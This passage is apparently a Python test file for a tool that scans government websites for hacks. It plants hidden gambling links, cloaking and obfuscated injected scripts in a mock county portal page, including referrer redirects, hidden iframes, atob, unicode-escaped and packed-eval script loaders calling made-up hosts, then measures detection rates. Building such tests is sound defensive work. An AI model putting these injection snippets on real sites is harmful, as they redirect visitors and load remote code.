"""The issue's targets on a third batch of unseen pages (issue 15, stage 3), written blind.

Written before reading how the detectors decide, by someone who had read only the issue, the
README and the two earlier batches (tests/test_security_unseen.py), to see whether the
detectors generalise: a county portal of an older, table-based CMS family (a "站群" template:
`<body bgcolor>`, layout tables, menus opened by `<style>` rules, a carousel, tabs, a mobile
menu, skip links and 无障碍 hints, statistics hidden in `display:none` blocks as their vendors'
snippets do) with hostile blocks in the shapes incident reports show on hacked government sites
— injected right after `<body>` or before `</body>` (or after `</html>`), links hidden by
stylesheet classes and nested hidden parents, `top:-999px`, `em` offsets, zero size, font-size
0, the background's colour, a 1-pixel marquee, hidden `<p>` in the footer, hiding wrappers
written by `document.write` around plain links, and hidden blocks written by script —; scripts
in the forms such incidents show; names with homophone and look-alike characters, outdated and
wrong titles, banned terms; and cloaking (versions for Baiduspider compared with a browser's).
Controls of every kind must stay silent.

`test_blind_batch_meets_the_targets` prints recall and precision of each family. As first run,
before any fix (see README, Security, Accuracy): the figures are in FIRST_RUN below.
"""

from __future__ import annotations

from datetime import date
from typing import Any

from test_security import RULES, facts_of, run_checks

from checks.security import compare_versions
from inspector.crawl.extract.encoding import parse_html
from inspector.crawl.extract.links import title_of
from inspector.crawl.extract.security import version_facts

SITE = "http://www.shiqiao.gov.cn/"
DAY = date(2025, 11, 20)

# The template: placeholders are {title}, {top} (right after <body>), {body} (the article),
# {bottom} (before </body>) and {after} (after </html>). Braces of CSS/JS are doubled.
PAGE = """<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd">
<html xmlns="http://www.w3.org/1999/xhtml"><head>
<meta http-equiv="Content-Type" content="text/html; charset=gb2312" />
<meta name="SiteName" content="石桥县人民政府"><meta name="SiteDomain" content="www.shiqiao.gov.cn">
<meta name="ColumnName" content="县内要闻"><meta name="PubDate" content="2025-11-20 09:12">
<title>{title}_县内要闻_石桥县人民政府</title>
<link rel="stylesheet" type="text/css" href="/images/style.css" />
<script type="text/javascript" src="/js/jquery-1.8.3.min.js"></script>
<script type="text/javascript" src="/js/jquery.SuperSlide.2.1.1.js"></script>
<style type="text/css">
body{{margin:0;background-color:#f2f2f2}}
.dh ul li{{float:left;position:relative}}
.dh ul li .ejcd{{display:none;position:absolute;top:40px;left:0;background:#1a5fa8}}
.dh ul li:hover .ejcd{{display:block}}
.sr-only{{position:absolute;width:1px;height:1px;padding:0;margin:-1px;overflow:hidden;clip:rect(0,0,0,0);border:0}}
.tab_con{{display:none}} .tab_con.on{{display:block}}
.m_nav{{display:none}}
.banner .bd li{{display:none}}
.wx_ewm{{display:none;position:absolute;bottom:30px}}
.foot{{background:#1a5fa8;color:#fff;text-align:center}}
.foot a{{color:#fff}}
.zt_hd{{height:0;overflow:hidden}}
</style>
</head>
<body bgcolor="#f2f2f2" topmargin="0" leftmargin="0">{top}
<a href="#main" class="sr-only">跳过导航，直达正文</a>
<div class="wza_tips" style="position:absolute;left:-9999px;top:0"><a href="javascript:void(0);" accesskey="1" title="无障碍说明">无障碍说明：按Alt+1进入导航区</a><a href="#main" accesskey="2">正文区</a></div>
<table width="1000" border="0" align="center" cellpadding="0" cellspacing="0" class="top">
<tr><td><img src="/images/logo.jpg" alt="石桥县人民政府" /></td>
<td align="right"><a href="javascript:;" onclick="aria.start()">无障碍</a> | <a href="javascript:;" class="wx">微信</a><div class="wx_ewm"><img src="/images/wx.jpg" alt="石桥发布"/><a href="https://mp.weixin.qq.com/s/shiqiaofabu">关注石桥发布</a></div> | <a href="/m/">手机版</a></td></tr></table>
<div class="dh"><ul>
<li><a href="/">首页</a></li>
<li><a href="/zwgk/">政务公开</a><div class="ejcd"><a href="/zwgk/zfxxgkzn/">政府信息公开指南</a><a href="/zwgk/zfwj/">政府文件</a><a href="http://www.hunan.gov.cn/">湖南省人民政府</a></div></li>
<li><a href="/zwfw/">政务服务</a><div class="ejcd"><a href="http://zwfw-new.hunan.gov.cn/">湖南政务服务网</a><a href="http://www.chsi.com.cn/">学信网</a><a href="http://www.12306.cn/">铁路12306</a></div></li>
<li><a href="/hdjl/">互动交流</a><div class="ejcd"><a href="/hdjl/xzxx/">县长信箱</a><a href="/hdjl/myzj/">民意征集</a></div></li>
</ul></div>
<div class="m_nav"><a href="/">首页</a><a href="/zwgk/">政务公开</a><a href="/zwfw/">政务服务</a><a href="/hdjl/">互动交流</a></div>
<div class="banner"><div class="bd"><ul>
<li><a href="/ztzl/xxgc/"><img src="/images/b1.jpg" alt="学习贯彻党的二十届四中全会精神"/></a></li>
<li><a href="https://www.xuexi.cn/"><img src="/images/b2.jpg" alt="学习强国"/></a></li>
<li><a href="http://www.12371.cn/"><img src="/images/b3.jpg" alt="共产党员网"/></a></li>
</ul></div></div>
<table width="1000" align="center"><tr><td width="680" valign="top">
<div class="tab"><div class="tab_hd"><span class="on">县内要闻</span><span>部门动态</span><span>便民服务</span></div>
<div class="tab_con on"><ul><li><a href="/xnyw/202511/t20251119_3301.html">县委理论学习中心组召开学习会</a></li></ul></div>
<div class="tab_con"><ul><li><a href="/bmdt/202511/t20251118_3290.html">县民政局公布2025年度福利彩票公益金使用情况</a></li><li><a href="/bmdt/202511/t20251117_3288.html">县公安局开展打击跨境赌博专项行动</a></li><li><a href="/bmdt/202511/t20251116_3280.html">体育彩票助力全民健身工程建设</a></li></ul></div>
<div class="tab_con"><ul><li><a href="http://www.12333.gov.cn/">社保查询</a></li><li><a href="https://www.chsi.com.cn/xlcx/">学历查询</a></li><li><a href="http://www.weather.com.cn/weather/101250101.shtml">天气预报</a></li></ul></div>
</div>
<div id="main" class="article"><h1>{title}</h1>
<div class="info">发布时间：2025-11-20　来源：县政府办　浏览次数：<script src="/cms/count.jsp?id=3302"></script></div>
<div id="zoom">{body}</div></div>
</td><td width="300" valign="top"><div class="zt_hd"><a href="/ztzl/old/">往期专题</a></div></td></tr></table>
<div class="foot">
<p>主办：石桥县人民政府办公室　承办：石桥县政务服务中心　<a href="/wzdt/">网站地图</a>　<a href="/lxwm/">联系我们</a></p>
<p>网站标识码：4305230001　<a href="https://beian.miit.gov.cn/" target="_blank">湘ICP备12000001号</a>　<img src="/images/gaba.png"/><a href="http://www.beian.gov.cn/portal/registerSystemInfo?recordcode=43052302000101" target="_blank">湘公网安备 43052302000101号</a></p>
<span id="_ideConac"><script type="text/javascript">document.write(unescape("%3Cspan id='_ideConac' %3E%3C/span%3E%3Cscript src='https://dcs.conac.cn/js/18/000/0000/40634012/CA180000000406340120001.js' type='text/javascript'%3E%3C/script%3E"));</script></span>
<script id="_jiucuo_" sitecode="4305230001" src="https://zfwzgl.www.gov.cn/exposure/jiucuo.js"></script>
<div style="display:none"><script type="text/javascript" src="https://s9.cnzz.com/z_stat.php?id=1280012345&web_id=1280012345"></script><a href="https://www.cnzz.com/stat/website.php?web_id=1280012345" target="_blank" title="站长统计">站长统计</a></div>
<div style="display:none"><script language="javascript" type="text/javascript" src="//js.users.51.la/21234567.js"></script><noscript><a href="//www.51.la/?21234567" target="_blank"><img alt="&#x6211;&#x8981;&#x5566;&#x514D;&#x8D39;&#x7EDF;&#x8BA1;" src="//img.users.51.la/21234567.asp" style="border:none" /></a></noscript></div>
<script>var _hmt = _hmt || [];(function() {{var hm = document.createElement("script");hm.src = "https://hm.baidu.com/hm.js?fedcba9876543210fedcba9876543210";var s = document.getElementsByTagName("script")[0];s.parentNode.insertBefore(hm, s);}})();</script>
</div>
<div class="bdsharebuttonbox" style="display:none"><a href="#" class="bds_more" data-cmd="more"></a><a href="#" class="bds_qzone" data-cmd="qzone" title="分享到QQ空间"></a><a href="#" class="bds_tsina" data-cmd="tsina" title="分享到新浪微博"></a></div>
<script>jQuery(".banner").slide({{mainCell:".bd ul",effect:"fold",autoPlay:true}});jQuery(".tab").slide({{titCell:".tab_hd span",mainCell:".tab_con",trigger:"mouseover"}});</script>
{bottom}</body></html>{after}"""

ARTICLE = (
    "<p>11月19日，县委理论学习中心组召开集体学习会，深入学习贯彻习近平新时代中国特色社会主义"
    "思想和党的二十届四中全会精神。会议指出，要坚定拥护“两个确立”、坚决做到“两个维护”。</p>"
    "<p>会议强调，要统筹推进经济社会发展各项工作，确保完成全年目标任务。今年前三季度，全县"
    "地区生产总值同比增长6.1%，规模以上工业增加值增长7.3%。</p>"
)


def page(
    *, top: str = "", bottom: str = "", after: str = "", body: str = ARTICLE, title: str = ""
) -> str:
    return PAGE.format(
        title=title or "县委理论学习中心组召开集体学习会",
        top=top,
        bottom=bottom,
        after=after,
        body=body,
    )


# ---- hidden links: (case, where it is injected, markup, a planted target) ----------------------
# Braces in the markup are plain (not doubled): it is inserted after formatting.
HIDDEN = [
    (
        "display:none right after <body>",
        "top",
        '<div style="display:none"><a href="http://www.wnsr{n}.com/">威尼斯人</a> <a href="http://www.amyh{n}.com/">澳门银河</a> <a href="http://www.tyc{n}.net/">太阳城集团</a></div>',
        "http://www.wnsr{n}.com/",
    ),
    (
        "display:none before </body>, ul list",
        "bottom",
        '<div style="display:none"><ul><li><a href="http://www.pk10-{n}.com/">北京赛车pk10</a></li><li><a href="http://www.xyft{n}.com/">幸运飞艇开奖</a></li><li><a href="http://www.k3-{n}.com/">快3平台</a></li></ul></div>',
        "http://www.pk10-{n}.com/",
    ),
    (
        "stylesheet class in a <style> block",
        "top",
        '<style type="text/css">.ys_{n}{display:none}</style><div class="ys_{n}"><a href="https://www.yabo{n}.com/" target="_blank">亚博体育</a><a href="https://www.ky{n}qp.com/">开元棋牌</a></div>',
        "https://www.yabo{n}.com/",
    ),
    (
        "class among others, nested parents",
        "bottom",
        '<style>.f_wrap .k{n}{visibility:hidden;height:0}</style><div class="f_wrap"><div class="box k{n} clearfix"><div><table><tr><td><span><a href="http://www.obty{n}.com/">欧博娱乐</a></span></td></tr></table></div></div></div>',
        "http://www.obty{n}.com/",
    ),
    (
        "position:absolute; top:-999px",
        "top",
        '<div style="position:absolute;top:-999px;left:-999px;"><a href="http://www.lhc{n}.cc/">香港六合彩资料</a> <a href="http://www.lhc{n}.cc/tm/">六合彩特码</a></div>',
        "http://www.lhc{n}.cc/",
    ),
    (
        "text-indent in em",
        "bottom",
        '<div style="text-indent:-9999em;height:20px;overflow:hidden"><a href="http://www.dfh{n}.vip/">大发快三</a></div>',
        "http://www.dfh{n}.vip/",
    ),
    (
        "width/height 0 + overflow hidden",
        "bottom",
        '<div style="width:0;height:0;overflow:hidden;"><a href="http://www.bc{n}.top/">网上博彩</a><a href="http://www.bc{n}.top/xz/">足球下注</a></div>',
        "http://www.bc{n}.top/",
    ),
    (
        "float with 0px size",
        "top",
        '<div style="float:left;width:0px;height:0px;overflow:hidden"><a href="http://www.lhj{n}.com/">老虎机游戏</a></div>',
        "http://www.lhj{n}.com/",
    ),
    (
        "font-size:0 + line-height:0 block",
        "bottom",
        '<p style="font-size:0;line-height:0;margin:0"><a href="http://www.zq{n}.com/">足球投注网</a><a href="http://www.zq{n}.com/2">皇冠足球</a></p>',
        "http://www.zq{n}.com/",
    ),
    (
        "colour of a <style> body background",
        "bottom",
        '<div style="text-align:center"><a href="http://www.ttcp{n}.com/" style="color:#f2f2f2;font-size:12px">天天彩票网</a></div>',
        "http://www.ttcp{n}.com/",
    ),
    (
        "font color = table bgcolor",
        "bottom",
        '<table bgcolor="#FFFFFF" width="100%"><tr><td><font color="#FFFFFF"><a href="http://www.zrsx{n}.com/"><font color="#FFFFFF">真人视讯</font></a></font></td></tr></table>',
        "http://www.zrsx{n}.com/",
    ),
    (
        "marquee height=1 width=1",
        "top",
        '<marquee height="1" width="1" scrollamount="3000" scrolldelay="20000"><a href="http://www.dc{n}.com/">网上赌场</a><a href="http://www.dc{n}.com/b">百家乐技巧</a></marquee>',
        "http://www.dc{n}.com/",
    ),
    (
        "hidden <p> in the footer",
        "foot",
        '<p style="display:none"><a href="http://www.xyd{n}.cn/">信用卡套现</a> <a href="http://www.wd{n}.cn/">网贷口子</a></p>',
        "http://www.xyd{n}.cn/",
    ),
    (
        "each footer link hidden on its own",
        "foot",
        '<a href="http://www.ssc{n}.com/" style="display:none">重庆时时彩</a><a href="http://www.ssc{n}.com/jh" style="display:none">时时彩计划</a>',
        "http://www.ssc{n}.com/",
    ),
    (
        "document.write wrapper around plain links",
        "bottom",
        '<script>document.write("<div style=\\"display:none\\">");</script><a href="http://www.jsyl{n}.com/">金沙娱乐场</a> <a href="http://www.jsyl{n}.com/kh">金沙开户</a><script>document.write("</div>");</script>',
        "http://www.jsyl{n}.com/",
    ),
    (
        "document.write of a hidden div with plain text",
        "bottom",
        "<script type=\"text/javascript\">document.write('<div style=\"position:absolute;left:-6000px\">');document.write('<a href=\"http://www.hgty{n}.com/\">皇冠体育投注</a>');document.write('</div>');</script>",
        "http://www.hgty{n}.com/",
    ),
    (
        "document.writeln of a display:none block",
        "top",
        "<script>document.writeln(\"<div style='display:none'><a href='http://www.amdc{n}.com/'>澳门赌场</a><a href='http://www.amdc{n}.com/bjl'>百家乐</a></div>\");</script>",
        "http://www.amdc{n}.com/",
    ),
    (
        "after </html>",
        "after",
        '<div style="position:absolute;left:-3000px;top:-3000px"><a href="http://www.bet{n}.com/">bet365体育在线</a></div>',
        "http://www.bet{n}.com/",
    ),
    (
        "display:none and visibility:hidden, no words (untrusted host)",
        "bottom",
        '<div style="display:none;visibility:hidden"><a href="http://www.fjkj{n}.com/">福建快讯</a><a href="http://www.bdxx{n}.com/">本地信息港</a><a href="http://www.lyzx{n}.com/">旅游资讯</a></div>',
        "http://www.fjkj{n}.com/",
    ),
    (
        "代开发票 / 办证 spam in an off-screen block",
        "top",
        '<div style="position:absolute;left:-5000px"><a href="http://www.dkfp{n}.com/">代开发票</a> <a href="http://www.bz{n}.com/">办证刻章</a></div>',
        "http://www.dkfp{n}.com/",
    ),
    (
        "hidden class of the page's own stylesheet reused",
        "bottom",
        '<div class="zt_hd"><a href="http://www.xpj{n}.vip/">新葡京娱乐</a></div>',
        "http://www.xpj{n}.vip/",
    ),
    (
        "own host parasite pages",
        "top",
        '<div style="display:none"><a href="/cache/{n}/amylc.html">澳门娱乐城官网</a><a href="/cache/{n}/bjl.html">百家乐平台推荐</a></div>',
        SITE + "cache/{n}/amylc.html",
    ),
    (
        "adult words, hidden span in a paragraph",
        "bottom",
        '<p>石桥县人民政府版权所有<span style="display:none"><a href="http://www.av{n}.xyz/">成人电影在线</a></span></p>',
        "http://www.av{n}.xyz/",
    ),
    (
        "clip rect, absolute",
        "bottom",
        '<div style="position:absolute;clip:rect(1px,1px,1px,1px);overflow:hidden"><a href="http://www.sb{n}.com/">沙巴体育</a></div>',
        "http://www.sb{n}.com/",
    ),
]

# Controls: hidden blocks that are normal on government pages (plus those of the template).
HIDDEN_CONTROLS = [
    (
        "bottom",
        '<div class="m_menu" style="display:none"><ul><li><a href="/">首页</a></li><li><a href="/zwgk/">政务公开</a></li><li><a href="http://www.hunan.gov.cn/">湖南省政府</a></li></ul></div>',
    ),
    (
        "bottom",
        '<div id="tab{n}" style="display:none"><ul><li><a href="/bmdt/202511/t20251115_3270.html">县财政局关于彩票公益金使用情况的公告</a></li><li><a href="/bmdt/202511/t20251114_3266.html">严厉打击网络赌博违法犯罪活动的通告</a></li></ul></div>',
    ),
    (
        "bottom",
        '<div class="yqlj_list" style="display:none"><a href="http://www.people.com.cn/">人民网</a><a href="http://www.xinhuanet.com/">新华网</a><a href="http://www.rednet.cn/">红网</a><a href="http://www.cctv.com/">央视网</a></div>',
    ),
    (
        "top",
        '<div class="slide" style="display:none"><a href="https://www.xuexi.cn/"><img src="/images/xxqg.jpg" alt="学习强国"/></a></div>',
    ),
    (
        "top",
        '<a class="skip-link" href="#main" style="position:absolute;left:-10000px;top:auto;width:1px;height:1px;overflow:hidden">跳到主要内容</a>',
    ),
    (
        "bottom",
        '<div id="wzaHide" style="display:none"><a href="javascript:;" id="toolbarClose">关闭辅助工具</a><a href="javascript:;">大字幕</a><a href="javascript:;">读屏</a></div>',
    ),
    (
        "bottom",
        '<div class="pop_ewm" style="display:none"><img src="/images/app.png"/><a href="https://apps.apple.com/cn/app/id1234567">下载石桥县App</a></div>',
    ),
    (
        "bottom",
        '<div style="display:none"><a href="https://www.cnzz.com/stat/website.php?web_id=1280099999" target="_blank" title="站长统计"><img border="0" hspace="0" vspace="0" src="https://icon.cnzz.com/img/pic.gif"></a></div>',
    ),
    (
        "bottom",
        '<div style="display:none"><a href="https://tongji.baidu.com/web/welcome/ico?s=fedcba9876543210" target="_blank">百度统计</a></div>',
    ),
    (
        "bottom",
        '<div class="share_box" style="display:none">分享到：<a href="http://service.weibo.com/share/share.php?url=x" target="_blank">新浪微博</a><a href="https://sns.qzone.qq.com/cgi-bin/qzshare/cgi_qzshare_onekey?url=x">QQ空间</a></div>',
    ),
    (
        "bottom",
        '<div style="position:absolute;top:-999px"><a href="/search/">站内搜索</a><a href="/rss/">RSS订阅</a></div>',
    ),
    (
        "bottom",
        '<div class="tabpanel" style="display:none"><ul><li><a href="http://www.12306.cn/">火车票</a></li><li><a href="https://www.chsi.com.cn/">学信网</a></li><li><a href="http://www.weather.com.cn/">中国天气</a></li></ul></div>',
    ),
    (
        "bottom",
        '<select onchange="window.open(this.value)" style="display:none"><option value="http://www.gov.cn/">中国政府网</option></select><div style="display:none"><a href="http://www.ccgp.gov.cn/">中国政府采购网</a></div>',
    ),
    (
        "bottom",
        '<div style="width:0;height:0;overflow:hidden"><img src="/images/share_logo.jpg" alt="石桥县人民政府"/></div>',
    ),
    (
        "bottom",
        '<div style="font-size:0"><a href="/zwgk/"><img src="/images/zwgk.png" alt="政务公开"/></a><a href="/zwfw/"><img src="/images/zwfw.png" alt="政务服务"/></a></div>',
    ),
    (
        "bottom",
        '<div class="foot2" style="background:#1a5fa8"><a href="/wzsm/" style="color:#ffffff">网站声明</a></div>',
    ),
]

# ---- injected code: (case, where, markup) -----------------------------------------------------
SCRIPTS = [
    (
        "fake jquery host right after <head>",
        "head",
        '<script type="text/javascript" src="http://www.jquery-cdn{n}.com/jquery.min.js"></script>',
    ),
    (
        "typosquatted statistics host",
        "bottom",
        '<script src="https://ssl.51la-{n}.cc/tj.js"></script>',
    ),
    (
        "gov.cn as a subdomain of another host",
        "bottom",
        '<script src="http://www.shiqiao.gov.cn.tj{n}.com/a.js"></script>',
    ),
    (
        "host that only looks like gov.cn",
        "head",
        '<script src="http://js.gov-cn{n}.top/common.js"></script>',
    ),
    (
        "a script from an IP address",
        "bottom",
        '<script src="http://103.45.67.{n}/js/tj.js"></script>',
    ),
    (
        "classic referrer redirect",
        "head",
        '<script type="text/javascript">var s=document.referrer;if(s.indexOf("baidu")>0||s.indexOf("soso")>0||s.indexOf("google")>0||s.indexOf("yahoo")>0||s.indexOf("sogou")>0||s.indexOf("youdao")>0||s.indexOf("bing")>0){self.location="http://www.bc{n}888.com";}</script>',
    ),
    (
        "referrer regex, window.location",
        "bottom",
        '<script>var r=document.referrer;if(r.match(/(baidu|sogou|so|sm|bing)\\./i)){window.location="http://m.ylc{n}.vip/";}</script>',
    ),
    (
        "spider check writes a spam page",
        "head",
        "<script>if(navigator.userAgent.toLowerCase().indexOf('spider')!=-1){document.write('<a href=\"http://www.cp{n}.com\">彩票</a>');}</script>",
    ),
    (
        "iframe 0x0 without style",
        "bottom",
        '<iframe src="http://www.dm{n}.top/index.html" width="0" height="0" frameborder="0"></iframe>',
    ),
    (
        "document.write of a hidden iframe",
        "bottom",
        "<script>document.write(\"<iframe src='http://www.gg{n}.cn/' width=0 height=0 frameborder=0></iframe>\");</script>",
    ),
    (
        "document.write of a script, split tag",
        "top",
        '<script language="javascript">window.onerror=function(){return true;};document.write("<scr"+"ipt src=http://www.tongji{n}.top/c.js></scr"+"ipt>");</script>',
    ),
    (
        "unconditional redirect to a gambling host",
        "head",
        '<script>window["location"]["href"]="http://www.hg{n}0088.com/?from=gov";</script>',
    ),
    (
        "atob URL redirect",
        "bottom",
        '<script>setTimeout(function(){location.href=atob("aHR0cDovL3d3dy5iYzg4OC5jb20v")+"{n}"},0);</script>',
    ),
    (
        "unicode-escaped blob",
        "bottom",
        '<script>var _u="\\u0068\\u0074\\u0074\\u0070\\u003a\\u002f\\u002f\\u0077\\u0077\\u0077\\u002e\\u0062\\u0063\\u0038\\u0038\\u002e\\u0063\\u006f\\u006d\\u002f\\u006a\\u0073\\u002f\\u0061\\u002e\\u006a\\u0073";var _s=document.createElement("script");_s.src=_u+"?{n}";document.body.appendChild(_s);</script>',
    ),
    (
        "packed eval",
        "bottom",
        "<script>eval(function(p,a,c,k,e,d){e=function(c){return c.toString(36)};if(!''.replace(/^/,String)){while(c--){d[c.toString(a)]=k[c]||c.toString(a)}k=[function(e){return d[e]}];e=function(){return'\\\\w+'};c=1};while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}return p}('2.1(\\'<0 3=\"4://5.6{n}.7/8.9\"></0>\\');',10,10,'script|write|document|src|http|www|bc|com|a|js'.split('|'),0,{}))</script>",
    ),
    (
        "script injected after </html>",
        "after",
        '<script src="http://www.seo{n}.xyz/link.js"></script>',
    ),
]

SCRIPT_CONTROLS = [
    ("head", '<script src="https://cdn.staticfile.org/jquery/1.12.4/jquery.min.js"></script>'),
    ("head", '<script src="https://www.layuicdn.com/layui/layui.js"></script>'),
    (
        "bottom",
        "<script type=\"text/javascript\">document.write(unescape(\"%3Cspan id='cnzz_stat_icon_1280012345'%3E%3C/span%3E%3Cscript src='https://s4.cnzz.com/z_stat.php%3Fid%3D1280012345%26show%3Dpic1' type='text/javascript'%3E%3C/script%3E\"));</script>",
    ),
    ("bottom", '<script src="https://res.wx.qq.com/open/js/jweixin-1.6.0.js"></script>'),
    (
        "bottom",
        '<script>var logo="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==";document.getElementById("zoom").setAttribute("data-logo",logo);</script>',
    ),
    (
        "bottom",
        '<script>if(document.referrer.indexOf("baidu.com")>-1){document.getElementById("zoom").className+=" from-search";}</script>',
    ),
    (
        "head",
        '<script>if(/iPhone|iPad|Android|Mobile/i.test(navigator.userAgent)){window.location.href="/m/index.html";}</script>',
    ),
    (
        "bottom",
        '<iframe src="http://www.hunan.gov.cn/zwfw/embed/index.html" width="100%" height="260" frameborder="0" scrolling="no"></iframe>',
    ),
    (
        "bottom",
        '<script type="text/javascript" src="http://www.hunan.gov.cn/xxgk/js/searchbox.js"></script>',
    ),
    (
        "bottom",
        "<script>function setFont(s){document.getElementById('zoom').style.fontSize=s+'px';}function printPage(){window.print();}</script>",
    ),
    (
        "bottom",
        '<script>var d=new Date();var w=["日","一","二","三","四","五","六"];document.write("今天是"+d.getFullYear()+"年"+(d.getMonth()+1)+"月"+d.getDate()+"日 星期"+w[d.getDay()]);</script>',
    ),
    (
        "bottom",
        '<script charset="UTF-8" id="LA_COLLECT" src="//sdk.51.la/js-sdk-pro.min.js"></script><script>LA.init({id:"KxYz987",ck:"KxYz987",autoTrack:true})</script>',
    ),
    (
        "bottom",
        '<script type="text/javascript" src="http://v3.jiathis.com/code/jia.js?uid=1234567" charset="utf-8"></script>',
    ),
    (
        "bottom",
        '<script>window.onload=function(){var a=document.getElementsByTagName("a");for(var i=0;i<a.length;i++){if(a[i].href.indexOf("shiqiao.gov.cn")<0&&a[i].href.indexOf("http")==0){a[i].onclick=function(){return confirm("您访问的链接即将离开石桥县人民政府网站，是否继续？");};}}};</script>',
    ),
]

# ---- wording errors: (text, the wrong text the finding must show, or None) ----------------------
WORDING = [
    ("深入学习贯彻习近乎总书记关于“三农”工作的重要论述。", "习近乎"),
    ("认真贯彻落实习近平总书记和李墙总理的重要指示批示精神。", "李墙"),
    ("全国人大常委会委员长赵乐级主持会议。", "赵乐级"),
    ("全国政协主席王户宁出席开幕会。", "王户宁"),
    ("国务院副总理丁薛样出席会议并讲话。", "丁薛样"),
    ("中央纪委书记李熙在全会上作工作报告。", "李熙"),
    ("国家副主席韩证出席仪式。", "韩证"),
    ("国务院副总理韩正到湖南调研。", "国务院副总理韩正"),
    ("国家主席胡锦涛致贺信。", "国家主席胡锦涛"),
    ("全国政协主席俞正声出席会议。", "全国政协主席俞正声"),
    ("国务院总理王沪宁主持召开会议。", "国务院总理王沪宁"),
    ("两岸交流中，台湾政府的阻挠不得人心。", "台湾政府"),
    ("南朝鲜总统访问日本。", "南朝鲜"),
    ("坚持和发展中国特色社会主意。", "中国特色社会主意"),
    ("深入开展“不忘初心、牢记使名”主题教育。", "牢记使名"),
]
WORDING_CONTROLS = [
    "深入学习贯彻习近平总书记关于“三农”工作的重要论述。",
    "李强总理在政府工作报告中指出，要着力扩大国内需求。",
    "市委副书记李强同志出席会议。",
    "县委书记王沪宇、县长丁学祥出席。",
    "1998年，时任国务院总理朱镕基到我县视察抗洪工作。",
    "原国务院副总理韩正同志曾来我县调研。",
    "胡锦涛同志的讲话令人难忘。",
    "赵乐际委员长在会上强调，要加强宪法实施和监督。",
    "台湾地区领导人赖清德的谋“独”言行遭到批驳。",
    "韩国总统访问日本。",
    "县人大常委会主任赵乐同志主持会议。",
    "王沪宁主席出席政协会议开幕会。",
]


# ---- cloaking: (case, the browser's page, the page Baiduspider gets, status, final URL) -----
NORMAL_HOME = page(title="首页")
CLOAKED = [
    (
        "title and words for spiders",
        page(title="澳门威尼斯人_澳门银河赌场官网_真人百家乐"),
        200,
        None,
    ),
    (
        "same title, gambling links only for spiders",
        page(
            title="首页",
            bottom='<div><a href="http://www.wnsr8.com/">威尼斯人</a><a href="http://www.yb9.com/">亚博体育</a></div>',
        ),
        200,
        None,
    ),
    ("spider redirected to another host", NORMAL_HOME, 200, "http://www.amdc88.com/land/"),
    (
        "spider gets a different page altogether",
        "<html><head><title>石桥县人民政府</title><meta name='keywords' content='六合彩,时时彩,北京赛车'></head><body><h1>六合彩开奖结果</h1><a href='http://www.lhc88.cc/'>六合彩</a></body></html>",
        200,
        None,
    ),
]
NOT_CLOAKED = [
    ("identical", NORMAL_HOME, 200, None),
    (
        "blocked with 403",
        "<html><head><title>403</title></head><body>Forbidden</body></html>",
        403,
        None,
    ),
    (
        "the clock differs",
        NORMAL_HOME.replace(
            "县委理论学习中心组召开集体学习会</h1>",
            "县委理论学习中心组召开集体学习会</h1><p>今天是2025年11月20日 星期四</p>",
        ),
        200,
        None,
    ),
    (
        "a rotating banner shows another government site",
        page(
            title="首页", bottom='<a href="http://www.hunan.gov.cn/ztzl/"><img src="/b4.jpg"/></a>'
        ),
        200,
        None,
    ),
    (
        "session ids in links",
        NORMAL_HOME.replace('href="/zwgk/"', 'href="/zwgk/;jsessionid=ABC123"'),
        200,
        None,
    ),
    ("redirected within the site", NORMAL_HOME, 200, SITE + "index.shtml"),
    (
        "statistics left out for robots",
        NORMAL_HOME.replace("https://s9.cnzz.com/z_stat.php", "/blank.js"),
        200,
        None,
    ),
]

# The figures of the first run (before any change to the detectors), kept as measured.
FIRST_RUN: dict[str, Any] = {
    "hidden links": ((19, 24), (19, 19)),  # missed: <font color> = table bgcolor, the three
    # document.write'd hiding wrappers, clip:rect(1px,1px,1px,1px)
    "injected scripts": ((12, 16), (12, 13)),  # missed: split-tag document.write, unconditional
    # location redirect, atob redirect, \u-escaped blob; false alarm: layuicdn.com
    "wording errors": ((15, 15), (15, 16)),  # false alarm: 县长丁学祥 (a local official)
    "cloaking": ((4, 4), (4, 4)),  # and none of the 7 controls
}


def _url(i: int) -> str:
    return f"{SITE}xnyw/202511/t20251120_{7000 + i}.html"


def _place(where: str, markup: str) -> str:
    if where == "foot":
        return page().replace("<p>主办：", markup + "<p>主办：", 1)
    if where == "head":
        return page().replace("</head>", markup + "</head>", 1)
    return page(**{where: markup})


def _version(html: str, status: int = 200, final_url: str | None = None) -> dict[str, Any]:
    doc = parse_html(html)
    return version_facts(
        doc, SITE, RULES, site_hosts=frozenset({"shiqiao.gov.cn"}), title=title_of(doc),
        status=status, final_url=final_url or SITE,
    )  # fmt: skip


def evaluate() -> dict[str, tuple[set, set]]:
    """Per family: (what was found, what should be), and the misses/false alarms by case."""
    pages, i = [], 0
    want: dict[str, set] = {"hidden links": set(), "injected scripts": set(), "wording": set()}
    planted: dict[str, str] = {}
    for n, (_name, where, markup, target) in enumerate(HIDDEN):
        pages.append(
            facts_of(_place(where, markup.replace("{n}", str(n))), _url(i), DAY, site_url=SITE)
        )
        want["hidden links"].add(_url(i))
        planted[_url(i)] = target.replace("{n}", str(n))
        i += 1
    for n, (where, markup) in enumerate(HIDDEN_CONTROLS + SCRIPT_CONTROLS):
        pages.append(
            facts_of(_place(where, markup.replace("{n}", str(n))), _url(i), DAY, site_url=SITE)
        )
        i += 1
    for n, (_name, where, markup) in enumerate(SCRIPTS):
        pages.append(
            facts_of(_place(where, markup.replace("{n}", str(n))), _url(i), DAY, site_url=SITE)
        )
        want["injected scripts"].add(_url(i))
        i += 1
    for text, wrong in WORDING:
        pages.append(facts_of(page(body=f"<p>{text}</p>" + ARTICLE), _url(i), DAY, site_url=SITE))
        want["wording"].add((_url(i), wrong))
        i += 1
    for text in WORDING_CONTROLS:
        pages.append(facts_of(page(body=f"<p>{text}</p>" + ARTICLE), _url(i), DAY, site_url=SITE))
        i += 1
    pages.append(facts_of(page(), _url(i), DAY, site_url=SITE))  # the template alone
    findings = run_checks(pages, SITE)
    hidden = {
        f.url
        for f in findings
        if f.check == "hidden_links"
